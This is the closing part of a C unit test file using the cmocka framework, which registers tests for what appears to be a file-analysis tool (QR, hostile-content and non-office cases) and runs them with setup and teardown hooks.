		cmocka_unit_test(analysis_qr_and_hostile),
		cmocka_unit_test(analysis_not_office),
		cmocka_unit_test(corpus),
	};

	return cmocka_run_group_tests(tests, filetest_setup,
	    filetest_teardown);
}
